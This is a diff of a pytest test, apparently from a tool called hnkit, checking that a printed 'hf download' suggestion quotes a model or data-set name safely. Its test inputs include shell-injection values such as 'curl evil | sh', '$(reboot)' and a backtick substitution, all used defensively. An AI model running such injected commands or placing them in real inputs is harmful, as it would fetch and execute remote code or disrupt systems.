@@ -708,9 +708,10 @@ def test_adapters_are_loaded_from_where_they_are_said_to_be(tmp_path):
 
 @pytest.mark.parametrize("name", ["nobody/model; curl evil | sh", "$(reboot)/x", "a'b/`c`", "plain/name"])
 def test_a_line_to_paste_holds_the_name_as_one_word(name):
-    """The base model that an adapter or a configuration names is printed in a command."""
-    from hnkit.scaled.internal.hub import missing_model
+    """The data set that a configuration names is printed in a command, a model only where the hub could have it."""
+    from hnkit.internal.downloads import not_here
 
-    line = str(missing_model("backend.model_id", name, OSError("no network")))
-    command = line.partition(": run ")[2].partition(" where there is a network")[0]
-    assert shlex.split(command) == ["hf", "download", name]
+    for data_set, words in ((True, ["hf", "download", "--repo-type", "dataset"]), (False, ["hf", "download"])):
+        line = str(not_here("this", name, OSError("no network"), local_files_only=True, data_set=data_set))
+        command = line.partition(": run ")[2].partition(" where there is a network")[0]
+        assert shlex.split(command) == ([*words, name] if data_set or name == "plain/name" else [])
